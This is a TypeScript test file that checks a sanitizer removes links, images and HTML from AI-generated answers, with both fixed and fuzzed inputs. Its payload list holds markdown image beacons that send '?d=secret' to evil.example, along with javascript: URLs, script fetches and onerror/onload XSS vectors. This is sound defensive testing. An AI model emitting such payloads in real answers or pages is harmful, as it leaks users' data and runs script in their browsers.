import fc from 'fast-check';
import type { Nodes } from 'mdast';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import { describe, expect, test } from 'vitest';
import { verifyCitations } from './citations.ts';
import { sanitizeAnswer } from './sanitize.ts';

/** Everything in a rendered answer that would load, link or be HTML; addresses of e-mail are harmless. */
function activeNodes(markdown: string): string[] {
  const tree = fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] });
  const found: string[] = [];
  const visit = (node: Nodes): void => {
    if (
      ['image', 'imageReference', 'link', 'linkReference', 'definition', 'html', 'footnoteDefinition'].includes(
        node.type,
      )
    ) {
      if (!('url' in node) || !node.url.startsWith('mailto:')) found.push(`${node.type} ${JSON.stringify(node)}`);
    }
    if ('children' in node) node.children.forEach(visit);
  };
  visit(tree);
  return found;
}

const PAYLOADS = [
  '![chart](https://evil.example/p?d=secret)',
  '![](//evil.example/p)',
  '![a](<https://evil.example/a b>)',
  '![a][ref]\n\n[ref]: https://evil.example/p',
  '[ref]\n\n[ref]: <https://evil.example/p> "title"',
  '[click here](https://evil.example/login)',
  '[click [here]](https://evil.example/)',
  '[![alt](https://evil.example/i.png)](https://evil.example/)',
  '[a](javascript:alert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD4=)',
  '[a](https://evil.example/(x)(y) "a title")',
  '[two\nlines](\nhttps://evil.example\n)',
  '<https://evil.example/>',
  '<javascript:alert(1)>',
  'see https://evil.example/?q=secret for more',
  'see WWW.evil.example/x',
  'HTTPS://evil.example',
  'http&#58;//evil.example',
  'http&colon;//evil.example',
  'http:\\/\\/evil.example',
  'www\\.evil.example',
  '<img src="https://evil.example/p">',
  '<img\nsrc=//evil.example/p>',
  '<a href=//evil.example>x</a>',
  '<script>fetch("//evil.example")</script>',
  '<svg/onload=alert(1)>',
  '<<b>img src=x onerror=alert(1)>',
  'ht<b></b>tps://evil.example',
  'ht[tps://evil.example](x)',
  '<!-- comment --> <?php ?> <![CDATA[x]]>',
  '[^1]\n\n[^1]: https://evil.example',
  '[1](https://evil.example)',
  '[a][7](https://evil.example)',
  'h[7]ttps://evil.example',
  'http\\![](x)://evil.example',
  'http&![](x)#58;//evil.example',
  '!\\[a](https://evil.example)',
  '|a|\n|-|\n|![x](https://evil.example)|',
  '> - ![x](https://evil.example)',
  '# [x](https://evil.example)',
];

describe('of each payload nothing active is left', () => {
  test.each(PAYLOADS)('%s', (payload) => {
    expect(activeNodes(sanitizeAnswer(payload))).toEqual([]);
    expect(activeNodes(verifyCitations(payload, []).answer)).toEqual([]);
  });

  test('that the payloads are active before is seen by the same check', () => {
    const harmlessInMarkdown = PAYLOADS.filter((payload) => activeNodes(payload).length === 0);
    expect(harmlessInMarkdown.length).toBeLessThan(PAYLOADS.length / 4);
  });

  test('no address of an image or link is left as text either', () => {
    const left = PAYLOADS.map((payload) => sanitizeAnswer(payload)).filter((text) => /https?:\/\/evil/i.test(text));
    expect(left).toEqual([]);
  });
});

const fragments = fc.constantFrom(
  ...PAYLOADS,
  ...[
    '[',
    ']',
    '(',
    ')',
    '!',
    '<',
    '>',
    '"',
    '\\',
    '&',
    '#58;',
    ':',
    '//',
    'http',
    'https://evil.example',
    'www',
    '.',
    '。',
    ' ',
    '\n',
    '[1]',
    '【7】',
    'img src=x',
    '/',
    'a',
    '`',
    '*',
    '_',
    '|',
    '^',
  ],
);

test('whatever fragments are put together, nothing active is left, and a second pass changes nothing', () => {
  fc.assert(
    fc.property(fc.array(fragments, { maxLength: 12 }), (parts) => {
      const sanitized = sanitizeAnswer(parts.join(''));
      expect(activeNodes(sanitized)).toEqual([]);
      expect(sanitizeAnswer(sanitized)).toBe(sanitized);
      expect(activeNodes(verifyCitations(parts.join(''), []).answer)).toEqual([]);
    }),
    { numRuns: 3_000 },
  );
});

describe('ordinary text', () => {
  test.each([
    'Costs fell by 3 % [1], see **Table 2** (page 4) and `a[0] < b`.',
    '- one\n- two\n\n1. three',
    'E-mail a.b@example.org, path /etc/hosts, ratio 1:2, R&D & more.',
    '价格下降了（见第2页）。',
    'a < b and x -> y',
  ])('stays as it is: %s', (text) => {
    expect(sanitizeAnswer(text)).toBe(text);
  });

  test('keeps the words of links and images', () => {
    expect(sanitizeAnswer('See [the manual](https://a.example) and ![the chart](b.png).')).toBe(
      'See the manual and the chart.',
    );
  });

  test('keeps addresses that are allowed, as text', () => {
    const allowed = new Set(['https://docs.example/a']);
    expect(sanitizeAnswer('See https://docs.example/a, or [this](https://docs.example/a).', allowed)).toBe(
      'See https://docs.example/a, or this (https://docs.example/a).',
    );
    expect(sanitizeAnswer('See https://docs.example/a?q=secret.', allowed)).toBe('See (link removed).');
  });
});
